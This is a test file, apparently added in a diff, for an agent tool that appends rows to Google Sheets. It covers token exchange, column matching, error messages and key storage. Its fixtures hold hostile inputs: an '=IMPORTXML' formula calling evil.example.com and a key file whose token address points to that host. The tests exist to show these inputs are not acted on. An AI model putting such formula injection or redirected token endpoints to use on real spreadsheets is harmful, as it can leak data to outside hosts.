@@ -1,0 +1,228 @@
+import { generateKeyPairSync } from 'node:crypto'
+import { afterAll, afterEach, beforeAll, beforeEach, expect, it } from '@jest/globals'
+import nock from 'nock'
+import { getGoogleAccount } from '../../spreadsheets/get-google-account.ts'
+import { removeGoogleAccount } from '../../spreadsheets/remove-google-account.ts'
+import { saveGoogleAccount } from '../../spreadsheets/google-account.ts'
+import { spreadsheetAppend } from '../../tools/kinds/spreadsheet-append.ts'
+import { createTestDatabase, type TestDatabase } from '../support/database.ts'
+import { type TestDeps, testDeps } from '../support/deps.ts'
+import { seedWorkspace } from '../support/seed.ts'
+import { runTool } from '../support/tools.ts'
+import { appendRow } from '../support/spreadsheets.ts'
+
+const { privateKey } = generateKeyPairSync('rsa', {
+  modulusLength: 2048,
+  publicKeyEncoding: { type: 'spki', format: 'pem' },
+  privateKeyEncoding: { type: 'pkcs8', format: 'pem' },
+})
+const keyFile = {
+  type: 'service_account',
+  client_email: 'sheets@acme.iam.gserviceaccount.com',
+  private_key: privateKey,
+  // Google's own files carry addresses: none of them may be followed.
+  token_uri: 'https://evil.example.com/token',
+  universe_domain: 'evil.example.com',
+}
+const config = { spreadsheet_id: 'sheet-1', provider: 'google' }
+
+let database: TestDatabase
+let deps: TestDeps
+let workspaceId: number
+
+beforeAll(async () => {
+  database = await createTestDatabase()
+  deps = testDeps(database.db)
+})
+beforeEach(async () => {
+  ;({ workspaceId } = await seedWorkspace(deps))
+  nock.disableNetConnect()
+  nock.enableNetConnect('127.0.0.1')
+})
+afterEach(() => {
+  nock.cleanAll()
+})
+afterAll(async () => {
+  nock.enableNetConnect()
+  nock.restore()
+  await database.close()
+})
+
+const claims = (assertion: string): unknown =>
+  JSON.parse(Buffer.from(assertion.split('.')[1] ?? '', 'base64url').toString())
+
+const google = () => nock('https://sheets.googleapis.com')
+
+const grantToken = (seen: unknown[] = []) =>
+  nock('https://oauth2.googleapis.com')
+    .post('/token', (body: { grant_type: string; assertion: string }) => {
+      seen.push(body.grant_type, claims(body.assertion))
+      return true
+    })
+    .reply(200, { access_token: 'token-1', expires_in: 3599, token_type: 'Bearer' })
+
+const tellHeader = (...columns: string[]) =>
+  google()
+    .get('/v4/spreadsheets/sheet-1/values/1:1')
+    .matchHeader('authorization', 'Bearer token-1')
+    .reply(200, { range: 'Sheet1!A1:Z1', majorDimension: 'ROWS', values: [columns] })
+
+const appended = '/v4/spreadsheets/sheet-1/values/A1:append'
+const options = { valueInputOption: 'RAW', insertDataOption: 'INSERT_ROWS' }
+
+const append = (values: unknown, more = {}) =>
+  runTool(deps, spreadsheetAppend, appendRow(workspaceId), { values }, { config, ...more })
+
+it('exchanges a signed assertion for a token, and appends the row in the order of the header', async () => {
+  await saveGoogleAccount(deps)(workspaceId, JSON.stringify(keyFile))
+  const seen: unknown[] = []
+  grantToken(seen)
+  tellHeader('Name', 'Phone', 'Price')
+  const sent: unknown[] = []
+  google()
+    .post(appended, (body) => sent.push(body) > 0)
+    .query(options)
+    .matchHeader('authorization', 'Bearer token-1')
+    .reply(200, { spreadsheetId: 'sheet-1', updates: { updatedRows: 1 } })
+
+  const answer = await append({ Price: 300, Name: '=IMPORTXML("https://evil.example.com")' })
+  expect(answer).toEqual({ text: 'The row is added to the spreadsheet.', isError: false })
+  expect(seen[0]).toBe('urn:ietf:params:oauth:grant-type:jwt-bearer')
+  expect(seen[1]).toMatchObject({
+    iss: keyFile.client_email,
+    scope: 'https://www.googleapis.com/auth/spreadsheets',
+    aud: 'https://oauth2.googleapis.com/token',
+  })
+  expect(sent).toEqual([
+    { majorDimension: 'ROWS', values: [['=IMPORTXML("https://evil.example.com")', '', 300]] },
+  ])
+  expect(nock.isDone()).toBe(true)
+})
+
+it('names unknown columns, and sends nothing', async () => {
+  await saveGoogleAccount(deps)(workspaceId, JSON.stringify(keyFile))
+  grantToken()
+  tellHeader('Name', 'Phone')
+  expect(await append({ Nmae: 'Ann' })).toEqual({
+    text: 'The spreadsheet has no column "Nmae". Its columns are "Name", "Phone": use these names.',
+    isError: true,
+  })
+})
+
+it('asks for a header where the first row is empty', async () => {
+  await saveGoogleAccount(deps)(workspaceId, JSON.stringify(keyFile))
+  grantToken()
+  tellHeader('', 'Phone')
+  expect((await append({ Phone: '1' })).text).toContain('write them into its first row')
+})
+
+it('reads the header on a test call, and sends nothing', async () => {
+  await saveGoogleAccount(deps)(workspaceId, JSON.stringify(keyFile))
+  grantToken()
+  tellHeader('Name')
+  expect(await append({ Name: 'Ann' }, { dryRun: true })).toEqual({
+    text: 'Test call, nothing was changed. This row would have been added: Name: Ann.',
+    isError: false,
+  })
+})
+
+it.each([
+  [401, 'a new one is to be made and pasted. The row was not added.'],
+  [403, 'is to be shared with sheets@acme.iam.gserviceaccount.com as an editor. The row was not added.'],
+  [404, 'Google knows no spreadsheet with this id'],
+  [429, 'Google takes no more rows for a minute'],
+  [400, 'refused it with status 400. The row was not added.'],
+  [503, 'It is not known whether the row was added: do not repeat it.'],
+])('sends a row once where Google answers %d, and tells the agent what it means', async (status, text) => {
+  await saveGoogleAccount(deps)(workspaceId, JSON.stringify(keyFile))
+  grantToken()
+  tellHeader('Name')
+  const second = google()
+    .post(appended)
+    .query(options)
+    .reply(status, {})
+    .post(appended)
+    .query(options)
+    .reply(200, {})
+  const answer = await append({ Name: 'Ann' })
+  expect(answer.isError).toBe(true)
+  expect(answer.text).toContain(text)
+  expect(second.isDone()).toBe(false)
+})
+
+it('does not know whether a row was added where the connection breaks', async () => {
+  await saveGoogleAccount(deps)(workspaceId, JSON.stringify(keyFile))
+  grantToken()
+  tellHeader('Name')
+  google().post(appended).query(options).replyWithError('socket hang up')
+  expect(await append({ Name: 'Ann' })).toEqual({
+    text: 'Google Sheets gave no answer. It is not known whether the row was added: do not repeat it.',
+    isError: true,
+  })
+})
+
+it('says that the key is to be replaced where Google does not accept it', async () => {
+  await saveGoogleAccount(deps)(workspaceId, JSON.stringify(keyFile))
+  nock('https://oauth2.googleapis.com').post('/token').reply(400, { error: 'invalid_grant' })
+  expect((await append({ Name: 'Ann' })).text).toContain('did not accept the key of the service account')
+})
+
+it('stops where the agent cancels', async () => {
+  await saveGoogleAccount(deps)(workspaceId, JSON.stringify(keyFile))
+  await expect(append({ Name: 'Ann' }, { signal: AbortSignal.abort() })).rejects.toMatchObject({
+    name: 'AbortError',
+  })
+})
+
+it('tells the address of the account alone, and forgets the account with its key', async () => {
+  expect(await getGoogleAccount(deps)(workspaceId)).toBeUndefined()
+  await saveGoogleAccount(deps)(workspaceId, JSON.stringify(keyFile))
+  expect(await getGoogleAccount(deps)(workspaceId)).toEqual({ clientEmail: keyFile.client_email })
+
+  const other = await seedWorkspace(deps)
+  const missing = { code: 'not_found' }
+  await expect(removeGoogleAccount(deps)(other.workspaceId)).rejects.toMatchObject(missing)
+  await removeGoogleAccount(deps)(workspaceId)
+  await expect(removeGoogleAccount(deps)(workspaceId)).rejects.toMatchObject(missing)
+  const rows = deps.db.selectFrom('google_account').selectAll().where('workspace_id', '=', workspaceId)
+  expect(await rows.execute()).toEqual([])
+})
+
+it('says where the key is to be pasted while there is none', async () => {
+  expect((await append({ Name: 'Ann' })).text).toContain('has no Google service account yet')
+})
+
+it('keeps the address and the sealed key alone, and replaces them', async () => {
+  await saveGoogleAccount(deps)(workspaceId, JSON.stringify(keyFile))
+  const saved = await saveGoogleAccount(deps)(
+    workspaceId,
+    JSON.stringify({ ...keyFile, client_email: 'new@acme.iam.gserviceaccount.com' }),
+  )
+  expect(saved).toEqual({ clientEmail: 'new@acme.iam.gserviceaccount.com' })
+  const rows = await deps.db
+    .selectFrom('google_account')
+    .selectAll()
+    .where('workspace_id', '=', workspaceId)
+    .execute()
+  expect(rows).toHaveLength(1)
+  expect(JSON.stringify(rows)).not.toMatch(/PRIVATE KEY|evil/)
+  expect(deps.box.open(rows[0]?.private_key ?? '')).toBe(privateKey)
+})
+
+const ec = generateKeyPairSync('ec', { namedCurve: 'P-256' }).privateKey.export({
+  type: 'pkcs8',
+  format: 'pem',
+})
+
+it.each([
+  ['no JSON', 'hello'],
+  ['no key', JSON.stringify({ client_email: 'a@b.example' })],
+  ['a broken key', JSON.stringify({ ...keyFile, private_key: 'secret-text' })],
+  ['a key of another kind', JSON.stringify({ ...keyFile, private_key: ec })],
+  ['an address that cannot be stored', JSON.stringify({ ...keyFile, client_email: 'a\u0000@b.example' })],
+  ['no address', JSON.stringify({ ...keyFile, client_email: 'sheets' })],
+])('refuses %s as a service account, without repeating it', async (_what, pasted) => {
+  const refusal = await saveGoogleAccount(deps)(workspaceId, pasted).catch((error: unknown) => error)
+  expect(refusal).toMatchObject({ code: 'validation_failed', details: [{ field: 'google_account' }] })
+  expect(String(refusal)).not.toContain('secret-text')
+})
